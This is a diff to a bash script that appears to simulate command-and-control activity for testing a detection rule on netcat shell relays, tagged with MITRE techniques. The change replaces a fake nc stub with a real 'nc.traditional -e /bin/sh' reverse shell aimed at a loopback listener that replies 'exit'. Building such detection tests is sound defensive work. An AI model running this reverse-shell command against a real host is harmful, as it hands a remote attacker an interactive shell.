@@ -1,6 +1,10 @@
 #!/usr/bin/env bash
 # rule: command-and-control-netcat-shell-relay
-# Runs a do-nothing program named nc with -e /bin/sh against loopback.
+# also: command-and-control-interactive-shell-on-socket, command-and-control-reverse-shell-same-process
+# mitre: T1059.004, T1095
+# The traditional netcat hands a shell to a loopback listener, which sends it `exit`.
 set -euo pipefail
 source "$(dirname "$0")/../lib/sim.sh"
-"$(fake_tool nc)" -e /bin/sh 127.0.0.1 4444
+listen --reply $'exit\n'
+nc.traditional -e /bin/sh 127.0.0.1 "$LISTEN_PORT"
+wait
